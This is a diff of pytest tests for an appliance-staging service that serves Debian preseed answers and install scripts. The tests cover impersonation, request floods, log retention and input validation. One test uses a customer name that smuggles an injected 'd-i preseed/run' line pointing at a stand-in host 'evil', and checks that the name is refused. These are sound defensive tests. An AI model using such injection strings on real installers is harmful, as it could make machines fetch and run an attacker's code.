@@ -10,10 +10,12 @@ from flask.testing import FlaskClient
 
 from preseed.appliance import missing_answers, wazo_distribution
 from preseed.links import Tickets
+from preseed.own import Own
+from staging.adapters.store.installs import FetchLine
 from staging.bootstrap import House, make_bench_app, open_house
 from staging.core.faults import PreseedRefused, Refused
 from staging.core.words import Serial
-from staging.desk import answer_texts, bench
+from staging.desk import answer_texts, bench, bench_own
 from staging.desk.bench_screen import bench_rows, box_row
 from staging.settings import Settings
 from tests.fakes.house import BY, environ, make_house, ready_box
@@ -104,6 +106,16 @@ def test_a_second_box_cannot_take_the_place_of_one_that_was_answered(house: Hous
     assert ask(client)[0] == 200, "its installer fetches once more by itself"
 
 
+@pytest.mark.parametrize("mac", ["020000000099", ""])
+def test_who_says_hello_in_anothers_name_does_not_get_its_answers(house: House, client: FlaskClient, mac: str) -> None:
+    ready_box(house, SERIAL)
+    hello(client)
+    bench.arm(house.desk, SERIAL, by=BY, role="technician")
+    hello(client, address=THERE, mac=mac)
+    assert ask(client, address=THERE)[0] == 403
+    assert on_screen(house) == ("hand", "two-boxes")
+
+
 def test_a_box_whose_address_changed_is_no_second_box(house: House, client: FlaskClient) -> None:
     armed(house, client)
     hello(client, address=THERE)
@@ -148,11 +160,154 @@ def test_after_partitioned_a_network_boot_starts_the_disk_until_it_is_armed_agai
     step(client, tickets, "partitioned")
     script = client.get(boot).text
     assert "kernel" not in script
-    assert script.endswith("exit\n")
+    assert script.splitlines()[-1].startswith("exit")
     assert ask(client)[0] == 403
     bench.arm(house.desk, SERIAL, by=BY, role="technician")
     assert "kernel http://" in client.get(boot).text
     assert house.store.appliances.get(SERIAL).restage, "what stands on the disk is ours"
+
+
+def test_two_boxes_that_ask_in_turns_are_both_named_and_fill_no_timeline(house: House, client: FlaskClient) -> None:
+    ready_box(house, SERIAL)
+    hello(client)
+    bench.arm(house.desk, SERIAL, by=BY, role="technician")
+    hello(client, address=THERE, mac="020000000099")
+    for _ in range(10):
+        ask(client)
+        ask(client, address=THERE)
+    (row,) = bench_rows(house.desk)
+    assert {row.facts["address"], row.facts["other"]} == {HERE, THERE}
+    lines = [line for line in house.store.timeline.of_serial(SERIAL) if line.event == "answers-refused"]
+    assert len(lines) <= 3
+
+
+def test_who_asks_from_elsewhere_hides_nothing_that_the_box_itself_reported(house: House, client: FlaskClient) -> None:
+    tickets = armed(house, client)
+    client.post(f"/hooks/install/{tickets.report}/disks", data=DISKS)
+    step(client, tickets, "disk-refused", failed=True)
+    assert ask(client, address=THERE)[0] == 403
+    assert on_screen(house) == ("hand", "disk-choice")
+
+
+def test_a_refusal_that_nobody_asks_about_any_more_leaves_the_screen(house: House, client: FlaskClient) -> None:
+    tickets = armed(house, client)
+    step(client, tickets, "early")
+    client.post(f"/hooks/install/{tickets.register}/engine-ready", data="address=192.0.2.7\n")
+    assert ask(client, address=THERE)[0] == 403
+    assert on_screen(house) == ("hand", "answers-used")
+    trouble = dict(house.store.appliances.get(SERIAL).trouble or {})
+    long_ago = (house.desk.clock.now() - timedelta(minutes=5)).isoformat()
+    house.store.appliances.change(SERIAL, trouble={**trouble, "asked_at": long_ago})
+    assert on_screen(house) == ("ready", "bench-box-ready")
+
+
+def test_how_long_a_box_waits_is_counted_from_its_first_refusal(house: House, client: FlaskClient) -> None:
+    bench.register_box(house.desk, SERIAL, model="DH470", customer="Atelier Bleu", by=BY)
+    hello(client)
+    ask(client)
+    trouble = dict(house.store.appliances.get(SERIAL).trouble or {})
+    began = house.desk.clock.now() - timedelta(minutes=2)
+    house.store.appliances.change(SERIAL, trouble={**trouble, "since": began.isoformat()})
+    hello(client)
+    ask(client)
+    (row,) = bench_rows(house.desk)
+    assert (row.what, row.since) == ("not-armed", began)
+
+
+def test_a_flood_of_strangers_is_one_tile_and_hides_no_box(house: House, client: FlaskClient) -> None:
+    hello(client, address=HERE)
+    for number in range(150):
+        house.store.appliances.hello(f"JUNK{number:04}", address=THERE, facts={})
+    found = bench.strangers(house.desk)
+    assert len(found) == 101, "a hundred of one address are kept"
+    waiting, crowds = bench.apart(found)
+    assert ([one.serial for one in waiting], crowds) == ([SERIAL], {THERE: 100})
+
+
+def test_a_shelf_behind_one_router_is_no_flood(house: House) -> None:
+    for number in range(60):
+        house.store.appliances.hello(f"SN{number:04}", address=HERE, facts={})
+    waiting, crowds = bench.apart(bench.strangers(house.desk))
+    assert (len(waiting), crowds) == (60, {})
+
+
+def test_a_stranger_waits_since_its_first_hello_and_anew_after_a_silence(house: House, client: FlaskClient) -> None:
+    hello(client)
+    (first,) = bench.strangers(house.desk)
+    hello(client)
+    (again,) = bench.strangers(house.desk)
+    assert again.first_at == first.first_at
+    assert again.at >= first.at
+
+
+def test_reports_that_were_not_taken_are_on_the_bench_and_a_flood_of_them_is_not(
+    house: House, client: FlaskClient
+) -> None:
+    tickets = armed(house, client)
+    bench.arm(house.desk, SERIAL, by=BY, role="technician")
+    for _ in range(50):
+        assert step(client, tickets, "base-begin") == 403
+    assert client.get(f"/preseed/{SERIAL}/{tickets.read}/late.sh").status_code == 403
+    house.office.flush()
+    odd = {(line.serial, line.status, line.code) for line in bench.odd_requests(house.desk)}
+    assert odd == {
+        ("/hooks/install/…/step/base-begin", 403, "hook-unknown-ticket"), ("SN0042/…/late.sh", 403, "unknown-ticket")
+    }  # fmt: skip
+    assert len(house.store.installs.fetches_of("/hooks/install/…/step/base-begin", limit=99)) == 30
+
+
+def test_ten_thousand_junk_serials_hide_no_other_request(house: House, client: FlaskClient) -> None:
+    ask(client, "SN9999", address=HERE)
+    house.office.flush()
+    now = house.desk.clock.now()
+    junk = (
+        FetchLine(now, f"JUNK{number:05}", THERE, 404, "unknown serial", "unknown-serial") for number in range(10_000)
+    )
+    house.store.installs.note_fetches(junk)
+    odd = bench.odd_requests(house.desk)
+    assert [line.serial for line in odd if line.address == HERE] == ["SN9999"]
+    assert len(odd) == 6
+
+
+def test_refusals_go_after_three_days_and_answers_after_a_month(house: House) -> None:
+    now = house.desk.clock.now()
+    old = [
+        FetchLine(now - timedelta(days=days), SERIAL, HERE, status)
+        for days in (2, 4, 31) for status in (200, 403)
+    ]  # fmt: skip
+    house.store.installs.note_fetches(old)
+    house.store.installs.note_fetches([FetchLine(now, SERIAL, HERE, 200)])
+    kept = [(round((now - line.at).days), line.status) for line in house.store.installs.fetches_of(SERIAL)]
+    assert sorted(kept) == [(0, 200), (2, 200), (2, 403), (4, 200)]
+
+
+def test_what_one_box_is_told_alone_is_in_its_answers_and_scripts(house: House, client: FlaskClient) -> None:
+    ready_box(house, SERIAL)
+    own = Own(
+        hostname="standard", keyboard="us", address="192.0.2.10/24", gateway="192.0.2.1", nameservers=("192.0.2.1",),
+        packages=("tcpdump",), disk_maximum_gb="500", disk_models=("Samsung SSD",),
+    )  # fmt: skip
+    bench_own.keep_own(house.desk, SERIAL, own, by=BY)
+    hello(client)
+    bench.arm(house.desk, SERIAL, by=BY, role="technician")
+    status, answers = ask(client)
+    assert status == 200
+    assert "xkb-keymap select us" in answers
+    assert " tcpdump\n" in answers
+    ticket = house.office.preseed_needs("http://preseed").open_tickets(SERIAL).read
+    scripts = [client.get(f"/preseed/{SERIAL}/{ticket}/{name}").text for name in ("early.sh", "late.sh")]
+    assert "name=standard" in scripts[0]
+    assert "'Samsung SSD'*" in scripts[0]
+    assert "address 192.0.2.10/24" in scripts[1]
+    assert "nameserver 192.0.2.1" in scripts[1]
+
+
+def test_what_no_box_can_be_told_is_not_kept(house: House) -> None:
+    ready_box(house, SERIAL)
+    with pytest.raises(Refused) as caught:
+        bench_own.keep_own(house.desk, SERIAL, Own(keyboard="fr", packages=("a b",)), by=BY)
+    assert [fault.code for fault in caught.value.faults] == ["own-keyboard", "own-packages"]
+    assert house.store.appliances.get(SERIAL).overrides == {}
 
 
 # --- how long, and why it stopped ---
@@ -270,6 +425,13 @@ def test_a_filler_of_the_bios_is_not_registered(house: House, typed: str) -> Non
         bench.register_box(house.desk, typed, model="DH470", customer=None, by=BY)
 
 
+@pytest.mark.parametrize("customer", ["Atelier\nd-i preseed/run string http://evil/", "x" * 300, "Atelier \u202e Bleu"])
+def test_a_customer_that_no_label_could_show_is_not_registered(house: House, customer: str) -> None:
+    with pytest.raises(Refused):
+        bench.register_box(house.desk, SERIAL, model="DH470", customer=customer, by=BY)
+    assert house.store.appliances.find(SERIAL) is None
+
+
 # --- answers of our own ---
 
 
@@ -303,6 +465,8 @@ def test_a_text_that_one_box_could_not_be_installed_with_is_not_kept(house: Hous
         with pytest.raises(PreseedRefused):
             answer_texts.keep_text(house.desk, "bench", "", body, expect=None, by=BY)
     assert house.store.installs.templates() == ()
+    (change,) = answer_texts.preview_text(house.desk, "bench", "", "d-i preseed/run string x\n").changed
+    assert ([fault.code for fault in change.faults], change.lines) == (["template-protected"], ())
 
 
 def test_what_changed_since_it_was_shown_is_shown_again(house: House) -> None:
